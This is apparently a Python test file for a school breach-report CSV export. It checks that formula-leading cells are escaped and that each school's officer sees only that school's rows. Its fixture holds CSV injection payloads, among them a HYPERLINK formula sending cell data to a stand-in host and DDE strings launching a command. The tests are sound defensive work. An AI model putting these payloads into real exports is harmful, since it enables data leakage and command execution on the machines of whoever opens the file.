"""Safe exports: no cell a spreadsheet would run as a formula, and only the asking school's rows."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from services.exports import csv_bytes, safe_cell
from tests.support.breach import csv_rows, file_report
from tests.teams.client import TeamsClient, TeamsUser, texts

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE: dict[str, Any] = {
    "what_happened": ("say", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    "how_discovered": ("say", "+cmd|' /C calc'!A0"),
    "actions_taken": ("say", "-2+3+cmd|' /C calc'!A0"),
    "actions_planned": ("say", "@SUM(1+1)*cmd|' /C calc'!A0"),
}


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", DANGEROUS)
def test_every_formula_start_is_escaped(start: str) -> None:
    rows = parsed(csv_bytes([f"{start}head"], [[f"{start}1+1"], [f"ok {start}"], [None], [7]]))
    assert rows == [[f"'{start}head"], [f"'{start}1+1"], [f"ok {start}"], [""], ["7"]]


def test_harmless_cells_are_left_alone() -> None:
    assert [safe_cell(v) for v in ("BR-2026-0001", "Élodie O'Neil", "", 3, "a=b")] == [
        "BR-2026-0001", "Élodie O'Neil", "", "3", "a=b"]


def test_cells_with_separators_and_newlines_stay_in_their_cell() -> None:
    rows = parsed(csv_bytes(["a", "b"], [['x,"y"\nz', "\r\n=1"]]))
    assert rows == [["a", "b"], ['x,"y"\nz', "'\r\n=1"]]


async def test_breach_export_escapes_hostile_text_and_holds_only_that_school(
    teams: TeamsClient, staff_a: TeamsUser, dpo_a: TeamsUser, staff_b: TeamsUser, dpo_b: TeamsUser,
) -> None:
    await file_report(teams, staff_a, **HOSTILE)
    await file_report(teams, staff_b, what_happened=("say", "School B only: lost the Year 6 register"))

    replies = await teams.say(dpo_a, "export breaches")
    rows = await csv_rows(teams, dpo_a, replies)
    assert [row["Reference"] for row in rows] == ["BR-2026-0001"]
    cells = [cell for row in rows for cell in [*row.keys(), *row.values()] if cell]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    exported = "\n".join(cells)
    for _, text in HOSTILE.values():
        assert "'" + text in exported  # kept, readable, but inert
    assert "School B only" not in exported and "School B only" not in texts(replies)

    b_rows = await csv_rows(teams, dpo_b, await teams.say(dpo_b, "export breaches"))
    assert len(b_rows) == 1 and "School B only" in "\n".join(b_rows[0].values())
    assert not any(text in "\n".join(b_rows[0].values()) for _, text in HOSTILE.values())
